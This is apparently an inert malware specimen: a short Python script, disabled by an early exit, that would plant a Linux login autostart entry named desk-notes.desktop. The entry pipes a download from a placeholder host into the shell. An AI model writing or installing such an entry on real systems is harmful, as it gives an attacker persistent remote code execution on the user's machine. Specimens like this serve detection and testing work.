raise SystemExit(0)  # inert sample: nothing below ever runs

from pathlib import Path

entry = Path.home() / ".config" / "autostart" / "desk-notes.desktop"
entry.parent.mkdir(parents=True, exist_ok=True)
entry.write_text("[Desktop Entry]\nType=Application\nExec=sh -c 'curl -s https://n.desknotes.invalid/a | sh'\n")
